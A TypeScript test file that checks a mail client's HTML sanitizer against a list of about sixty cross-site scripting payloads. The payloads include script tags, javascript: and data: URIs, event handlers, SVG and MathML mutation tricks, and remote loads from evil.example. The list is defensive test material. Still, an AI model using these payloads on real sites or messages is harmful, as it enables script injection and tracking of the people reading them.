import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { htmlToShow } from '../../../domain/message-html.ts';
import { sanitizeMessageHtml } from '../../../mail/content-html.ts';

const ELEMENTS: ReadonlySet<string> = new Set([
  ...['a', 'b', 'blockquote', 'br', 'center', 'div', 'em', 'font', 'img', 'li', 'p', 'pre'],
  ...['span', 'strong', 'table', 'tbody', 'td', 'tr', 'u', 'ul'],
]);
const ATTRIBUTES: ReadonlySet<string> = new Set([
  ...[
    'alt',
    'align',
    'colspan',
    'dir',
    'height',
    'href',
    'lang',
    'rel',
    'rowspan',
    'src',
    'target',
  ],
  ...['title', 'valign', 'width', 'referrerpolicy', 'loading'],
]);

/** What a browser would find that could do anything; empty when the HTML is harmless. */
function harmIn(html: string): readonly string[] {
  const harm: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ELEMENTS.has(name)) harm.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) harm.push(`${name} ${attribute}`);
        const isAddress = attribute === 'href' || attribute === 'src';
        if (isAddress && !/^(?:https?:\/\/|mailto:|\/attachments\/)/.test(value)) harm.push(value);
      }
      if (name === 'a' && attributes['href'] !== undefined) {
        if (attributes['rel']?.includes('noopener') !== true) harm.push('a without noopener');
      }
    },
    oncomment: (text) => harm.push(`comment ${text}`),
    onprocessinginstruction: (name) => harm.push(`instruction ${name}`),
  });
  parser.end(html);
  return harm;
}

/** After the collections of OWASP, of DOMPurify's tests, and of what mail programs fell for. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="cid:a@x" onload="alert(1)">',
  '<img src="jav\tascript:alert(1)">',
  '<img src="javascript:alert(1)">',
  '<img src="&#106;avascript:alert(1)">',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<img src="cid:a@x" srcset="https://evil.example/x 2x" lowsrc="javascript:alert(1)">',
  '<img data-src="javascript:alert(1)"><img data-src="data:text/html,x">',
  '<img src="https://evil.example/x&quot; onerror=&quot;alert(1)">',
  '<img src="cid:x&quot; onerror=&quot;alert(1)" alt="&quot; onerror=&quot;alert(1)">',
  '<img src="cid:x&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="java&#10;script:alert(1)">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
  '<a href="//evil.example" target="_self" rel="opener">a</a>',
  '<a href="https://x.example" onmouseover="alert(1)" style="position:fixed" id="top">a</a>',
  '<a href="file:///etc/passwd">a</a><a href="cid:x">b</a><a href="blob:x">c</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">a</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="x.swf">',
  '<applet code="x"></applet><base href="https://evil.example/"><link rel=stylesheet href=x>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta charset="utf-7">',
  '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">',
  '<form id=test></form><button form=test formaction=javascript:alert(1)>a</button>',
  '<style>@import "https://evil.example/x.css";body{background:url(javascript:alert(1))}</style>',
  '<div style="background-image:url(https://evil.example/pixel)">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<table background="https://evil.example/x"><tr><td background="javascript:alert(1)">a',
  '<body onload=alert(1) background="https://evil.example/x">a</body>',
  '<video poster="https://evil.example/x"><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>a</details><marquee onstart=alert(1)>b</marquee>',
  '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
  '<select><option><script>alert(1)</script></select><xmp><script>alert(1)</script></xmp>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script>-->',
  '<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html><![CDATA[<script>alert(1)</script>]]>',
  '<p>a</p\u0000><scr\u0000ipt>alert(1)</script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e<p>&lt;script&gt;alert(1)&lt;/script&gt;',
  '<a name="body"><img name="getElementById" id="cookie" class="x">',
  '<plaintext><script>alert(1)</script>',
  '<frameset><frame src="javascript:alert(1)"></frameset><layer src="x"></layer>',
  '<isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>',
  '<custom-element onclick="alert(1)" is="x">a</custom-element><p contenteditable autofocus>b</p>',
  '<img src="https://evil.example/x" width="1" height="1" usemap="#m"><map name=m><area href="javascript:alert(1)">',
];

describe('R42 HTML that means harm', () => {
  test.each(ATTACKS)('%s', (attack) => {
    const stored = sanitizeMessageHtml(`<p>before</p>${attack}`) ?? '';
    for (const hasRemoteImages of [false, true]) {
      const shown = htmlToShow(stored, {
        hasRemoteImages,
        pictureUrl: (id) => (id === 'a@x' ? '/attachments/e/2' : null),
      });
      expect(harmIn(shown)).toEqual([]);
      expect(shown).toContain('before');
      if (!hasRemoteImages) expect(shown).not.toMatch(/(?:src|background|url\()=?\W*https?:/);
    }
  });

  test('the look at them finds harm where there is some', () => {
    expect(harmIn('<p onclick="x"><svg></svg><a href="javascript:x">a</a><!-- b -->')).toEqual([
      ...['p onclick', '<svg>', 'javascript:x', 'a without noopener', 'comment  b '],
    ]);
  });

  test('sanitising twice changes nothing', () => {
    for (const attack of ATTACKS) {
      const once = sanitizeMessageHtml(`<p>before</p>${attack}`) ?? '';
      expect(sanitizeMessageHtml(once)).toBe(once);
    }
  });
});
